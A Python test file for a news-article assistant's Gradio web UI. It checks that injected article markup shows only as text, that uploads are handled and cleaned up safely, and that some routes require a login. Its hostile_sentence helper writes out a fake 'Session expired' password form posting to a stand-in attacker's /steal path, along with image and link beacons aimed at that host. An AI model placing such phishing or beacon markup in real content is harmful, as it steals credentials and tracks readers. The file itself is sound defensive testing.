"""Hostile content in the web UI: article markup, rapid uploads, leftover uploads, unauthenticated routes.

A real Gradio server on a free loopback port, driven by headless Chromium, as in test_ui.py.
"""

from __future__ import annotations

import http.server
import shutil
import threading

import pytest

from conftest import free_port
from ui_driver import TIMEOUT, ask, browser, last_answer, open_panel, page, served  # noqa: F401  (browser: the shared fixture)


@pytest.fixture(scope="module")
def outside():
    """A web server standing in for an attacker's: it counts every request it gets."""
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args):
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"127.0.0.1:{httpd.server_address[1]}", hits
    httpd.shutdown()


def hostile_sentence(host: str) -> str:
    return (
        'The harbour council approved the dredging budget on Wednesday <div id="overlay" '
        f'style="position:fixed;inset:0">Session expired<form action="//{host}/steal"><input type="password">'
        f'</form></div> <a href="//{host}/a">notice</a> <img src=//{host}/i> ![c](http://{host}/m) [d](http://{host}/l) '
        "**as** $$x$$ & <b>said</b>."
    )


@pytest.fixture(scope="module")
def server(seed_index, tmp_path_factory, embedder):
    from rag import Assistant

    index = tmp_path_factory.mktemp("hostile-ui") / "index"
    shutil.copytree(seed_index, index)
    assistant = Assistant.load(index, embedder=embedder)
    with served(assistant) as url:
        yield url, assistant


ARTICLE_NODES = ("#chat form, #chat input[type=password], #overlay, "
                 "#chat img, #chat a:not([href^='#']), #chat b, #chat .katex")


def test_article_markup_in_an_answer_shows_as_text_and_builds_nothing(page, server, outside, tmp_path):
    host, hits = outside
    url, assistant = server
    article = tmp_path / "harbour-dredging.txt"
    article.write_text("Harbour Dredging Budget Approved\n\n" + hostile_sentence(host) + "\n")
    report = assistant.ingest([article])
    assert report.added == ("harbour-dredging",), report
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    try:
        ask(page, "When did the harbour council approve the dredging budget?")
        answer = last_answer(page)
        # The reader sees what the article says, literally.
        for text in ("on Wednesday", '<div id="overlay"', "Session expired", f'<form action="//{host}/steal">',
                     '<input type="password">', f"<img src=//{host}/i>", f"![c](http://{host}/m)",
                     f"[d](http://{host}/l)", "**as** $$x$$ & <b>said</b>"):
            assert text in answer, (text, answer)
        # … and nothing of it was built: no form, no password field, no overlay, no image, no outside link.
        assert page.locator(ARTICLE_NODES).count() == 0, page.inner_html("#chat")
        fixed = page.evaluate("() => [...document.querySelectorAll('#chat *')]"
                              ".filter(e => getComputedStyle(e).position === 'fixed').length")
        assert fixed == 0
        # Our own citation link is still a link.
        assert page.locator("#chat a[href='#a1-source-1']").last.inner_text() == "[1]"

        # A refusal echoes the question: its markup is text too (and so is the question's own bubble).
        ask(page, f"Who won the sailing cup <img src=http://{host}/q.png> ![q](http://{host}/q2.png)?")
        assert "Not found in the articles" in last_answer(page)
        assert f"<img src=http://{host}/q.png>" in last_answer(page)
        assert page.locator(ARTICLE_NODES).count() == 0, page.inner_html("#chat")
        page.wait_for_timeout(1000)  # time for any image or prefetch to go out
        assert not [r for r in requests if host in r], requests
        assert hits == []
    finally:
        assistant.remove("harbour-dredging")


def test_files_chosen_while_an_upload_is_being_added_are_all_added(page, server, tmp_path):
    _, assistant = server
    open_panel(page, "Your articles", "#article-table")
    names = ["quay-repairs", "ferry-timetable", "lighthouse-reopens"]
    for name in names:
        (tmp_path / f"{name}.txt").write_text(
            f"{name.replace('-', ' ').title()}\n\n" + f"Officials said the {name.replace('-', ' ')} work went on. " * 40)
    try:
        for name in names:  # one after another, without waiting for the previous one to be added
            page.set_input_files("#upload input[type=file]", str(tmp_path / f"{name}.txt"))
        page.wait_for_function(
            "(names) => names.every(n => document.querySelector('#article-table')?.innerText.includes(n))",
            arg=names, timeout=90_000)
        assert set(names) <= {a.id for a in assistant.articles()}
        page.wait_for_function("() => document.querySelector('#upload-result')?.innerText.includes('lighthouse-reopens')")
        assert not [line for line in page.inner_text("#upload-result").splitlines() if line.startswith("failed")]
    finally:
        for name in names:
            if name in {a.id for a in assistant.articles()}:
                assistant.remove(name)


def test_uploads_are_deleted_once_added_and_earlier_ones_are_not_served(page, server, tmp_path):
    import os
    from pathlib import Path

    import httpx

    from ui.app import UPLOADS

    url, assistant = server
    folder = Path(os.environ["GRADIO_TEMP_DIR"])
    assert folder.parent == UPLOADS and folder.name == str(os.getpid())
    note = tmp_path / "pier-closure-note.txt"
    note.write_text("Pier Closure\n\nThe old pier closed to walkers on Tuesday for safety checks.\n")
    default = Path(os.path.realpath("/tmp")) / "gradio" / "earlier-run"
    open_panel(page, "Your articles", "#article-table")
    page.set_input_files("#upload input[type=file]", str(note))
    page.wait_for_function("() => document.querySelector('#upload-result')?.innerText.includes('pier-closure-note')")
    try:
        assert "pier-closure-note" in {a.id for a in assistant.articles()}
        # (Gradio leaves an empty temporary file per upload: it holds nothing.)
        assert not [p for p in folder.rglob("*") if p.is_file() and p.stat().st_size], list(folder.rglob("*"))
        # What an earlier run left in Gradio's default folder is not served.
        default.mkdir(parents=True, exist_ok=True)
        (default / "secret.txt").write_text("an earlier upload")
        with httpx.Client(timeout=30) as http:
            response = http.get(f"{url}/gradio_api/file={default / 'secret.txt'}")
            assert response.status_code in (403, 404) and "earlier upload" not in response.text, response.status_code
    finally:
        shutil.rmtree(default, ignore_errors=True)
        assistant.remove("pier-closure-note")


def test_a_dead_servers_uploads_are_deleted_at_start(seed_assistant):
    import os

    from ui.app import UPLOADS, build_app

    dead = UPLOADS / "999999999"
    (dead / "abc").mkdir(parents=True, exist_ok=True)
    (dead / "abc" / "left-behind.txt").write_text("an earlier server's upload")
    build_app(seed_assistant)
    assert not dead.exists()
    assert (UPLOADS / str(os.getpid())).is_dir()


def test_cancel_and_reset_need_a_login_when_one_is_configured(seed_assistant):
    import httpx

    from ui.app import build_app, launch_kwargs, launch_options

    app = build_app(seed_assistant)
    app.queue()
    port = free_port()
    env = {"RAG_UI_USERNAME": "ana", "RAG_UI_PASSWORD": "s3cret"}
    app.launch(**launch_kwargs(launch_options("127.0.0.1", port, allow_unauthenticated=False, env=env), seed_assistant),
               prevent_thread_lock=True, quiet=True)
    base = f"http://127.0.0.1:{port}/gradio_api"
    cancel = {"session_hash": "someone-else", "fn_index": 0, "event_id": "0123"}
    try:
        with httpx.Client(timeout=30) as http:
            assert http.post(f"{base}/cancel", json=cancel).status_code == 401
            assert http.post(f"{base}/cancel/", json=cancel).status_code in (401, 404, 405, 307)
            assert http.post(f"{base}/reset", json={"event_id": "0123"}).status_code == 401
            assert http.post(f"{base}/reset/", json={"event_id": "0123"}).status_code == 401
            assert http.get(f"{base}/info").status_code == 401  # as Gradio's own routes answer
            login = http.post(f"http://127.0.0.1:{port}/login", data={"username": "ana", "password": "s3cret"})
            assert login.status_code == 200
            assert http.post(f"{base}/cancel", json=cancel).status_code == 200
            assert http.post(f"{base}/reset", json={"event_id": "0123"}).status_code == 200
    finally:
        app.close()
